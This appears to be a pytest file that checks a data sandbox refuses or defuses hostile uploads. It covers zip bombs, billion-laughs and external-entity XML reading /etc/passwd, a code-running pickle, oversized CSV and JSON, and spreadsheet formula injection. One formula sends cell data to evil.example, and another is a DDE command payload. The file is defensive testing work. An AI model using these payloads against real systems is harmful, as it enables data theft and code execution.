"""Attacks: files that are made to harm whoever reads them, and what is taken out again."""

import io
import pickle
import time
import zipfile

import openpyxl
import pandas as pd
import pytest

import sandbox

LIMITS = sandbox.Limits(memory_bytes=2**31, load_seconds=10)
SHEET = (
    '<?xml version="1.0"?>{entities}'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData>{rows}</sheetData></worksheet>"
)
# Each stands for ten of the one before, the last for a billion.
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
FILE_ENTITY = '<!DOCTYPE w [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
FORMULAS = ['=HYPERLINK("http://evil.example/?" & A1)', "=cmd|' /C calc'!A0", "=1+1"]


def workbook(path, sheet):
    """Writes a real workbook with its sheet replaced by this XML, given in parts."""
    plain = io.BytesIO()
    pd.DataFrame({"a": [1]}).to_excel(plain, index=False)
    with (
        zipfile.ZipFile(plain) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, source.read(name))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as file:
            for part in sheet:
                file.write(part.encode())


def refused(path, limits=LIMITS):
    """The sentence with which the file is refused."""
    with pytest.raises(sandbox.InputError) as refusal:
        sandbox.open([path], limits)
    assert str(refusal.value).startswith(path.name)
    return str(refusal.value)


def bomb(path, rows):
    """Half a million characters a row, in a file of which every byte stands for hundreds."""
    head, tail = SHEET.format(entities="", rows="\0").split("\0")
    cell = '<c t="inlineStr"><is><t>' + "x" * 1000 + "</t></is></c>"
    workbook(path, [head, *("<row>" + cell * 500 + "</row>" for _ in range(rows)), tail])
    assert path.stat().st_size < 8 * 2**20


def test_a_workbook_that_is_larger_unpacked_than_a_file_may_be_is_refused_at_once(tmp_path, honest):
    path = tmp_path / "bomb.xlsx"
    bomb(path, 1100)
    sandbox.warm()
    started = time.monotonic()
    assert refused(path, sandbox.Limits()) == (
        "bomb.xlsx is too large unpacked: 544 MiB, at most 512 MiB. Leave out columns or rows that the "
        "question does not need, or save it as parquet."
    )
    assert time.monotonic() - started < 5


def test_a_workbook_that_says_it_is_smaller_than_it_is_is_not_read_on(tmp_path, honest):
    path = tmp_path / "bomb.xlsx"
    bomb(path, 200)
    content = bytearray(path.read_bytes())
    entry = content.rindex(b"xl/worksheets/sheet1.xml") - 46  # its place in the directory at the end
    assert content[entry : entry + 4] == b"PK\x01\x02"
    content[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    path.write_bytes(content)
    assert "larger than its declared uncompressed size" in refused(path)


def test_a_workbook_that_takes_more_memory_than_there_is_is_refused_with_the_limit(tmp_path, honest):
    path = tmp_path / "bomb.xlsx"
    bomb(path, 900)
    # Where memory ends its reader raises, panics or aborts the process.
    said = refused(path, sandbox.Limits(memory_bytes=2**31))
    assert "2,048 MiB of memory" in said
    assert said.endswith("Leave out columns or rows that the question does not need.")


def test_a_workbook_with_one_far_cell_is_refused_or_small(tmp_path, honest):
    """A table from A1 to the last cell there can be would have 17 billion cells."""
    path = tmp_path / "far.xlsx"
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    workbook(path, [SHEET.format(entities="", rows=rows)])
    refused(path)


@pytest.mark.parametrize(
    ("entities", "name"), [(LAUGHS, "j"), (FILE_ENTITY, "i")], ids=["a billion laughs", "a file of the host"]
)
def test_entities_of_a_workbooks_xml_are_not_resolved(tmp_path, honest, entities, name):
    path = tmp_path / "entities.xlsx"
    rows = "".join(f'<row><c t="inlineStr"><is><t>{text}</t></is></c></row>' for text in ("a", f"&{name};"))
    workbook(path, [SHEET.format(entities=entities, rows=rows)])
    try:
        with sandbox.open([path], LIMITS) as session:
            text = session.run("df.to_string()").stdout
    except sandbox.InputError as error:
        text = str(error)
    assert "root:" not in text and "haha" not in text


def test_a_csv_of_a_million_columns_is_refused(tmp_path, honest):
    path = tmp_path / "wide.csv"
    path.write_text(",".join(["a"] * 1_000_000) + "\n" + ",".join(["1"] * 1_000_000) + "\n", encoding="utf-8")
    assert "columns; at most 5,000 can be read" in refused(path)


def test_a_csv_that_gets_wide_soon_is_refused(tmp_path, honest):
    path = tmp_path / "soon.csv"
    path.write_text("a,b\n" + "1,2\n" * 20 + ",".join(["1"] * 1_000_000) + "\n", encoding="utf-8")
    assert "columns; at most 5,000 can be read" in refused(path)


def test_a_csv_that_gets_wide_later_is_read_narrow(tmp_path, honest):
    path = tmp_path / "late.csv"
    narrow = "a,b\n" + "1,2\n" * 1000
    path.write_text(narrow + ",".join(["1"] * 1_000_000) + "\n", encoding="utf-8")
    with sandbox.open([path], LIMITS) as session:
        assert session.run("df.shape").stdout == "(1001, 2)\n"


def test_a_csv_of_one_endless_cell_is_refused_or_one_cell(tmp_path, honest):
    path = tmp_path / "quote.csv"
    path.write_text('a\n"' + "x\n" * 5_000_000, encoding="utf-8")
    try:
        with sandbox.open([path], LIMITS) as session:
            assert session.run("len(df) < 10").stdout == "True\n"
    except sandbox.InputError as error:
        assert str(error).startswith("quote.csv")


@pytest.mark.parametrize("name", ["model.pkl", "model.pickle", "model.csv", "model.xlsx", "model.parquet"])
def test_a_pickle_is_not_loaded(tmp_path, honest, name):
    """Loading one runs what it says."""
    ran = tmp_path / "ran"

    class Evil:
        def __reduce__(self):
            return ran.touch, ()

    (tmp_path / name).write_bytes(pickle.dumps(Evil()))
    refused(tmp_path / name)
    assert not ran.exists()


@pytest.mark.parametrize("depth", [100_000, 5_000_000])
def test_json_that_is_nested_without_end_is_refused(tmp_path, honest, depth):
    path = tmp_path / "deep.json"
    path.write_text("[" * depth, encoding="utf-8")
    refused(path)


def test_json_with_a_number_of_a_million_digits_is_refused(tmp_path, honest):
    path = tmp_path / "digits.json"
    path.write_text('[{"a": ' + "9" * 1_000_000 + "}]", encoding="utf-8")
    refused(path)


def test_cells_of_an_uploaded_table_are_no_code(tmp_path, honest):
    path = tmp_path / "code.csv"
    path.write_text("a{__import__('os')},b\n\"__import__('os').abort()\",1\n", encoding="utf-8")
    with sandbox.open([path], LIMITS) as session:
        assert session.run("df.iloc[0, 0]").stdout == "__import__('os').abort()\n"
        assert session.profile()[0].columns[0].name == "a{__import__('os')}"


def test_formula_cells_are_text_in_an_exported_workbook(tmp_path, honest):
    """Else a formula in a stranger's table would run when the export is opened."""
    path = tmp_path / "t.csv"
    pd.DataFrame({"a": FORMULAS}).to_csv(path, index=False)
    with sandbox.open([path]) as session:
        session.run("df.to_excel('out.xlsx', index=False)")
        exported = session.read_file("out.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == FORMULAS
    assert all(cell.data_type == "s" for cell in cells)
    raw = zipfile.ZipFile(io.BytesIO(exported)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw
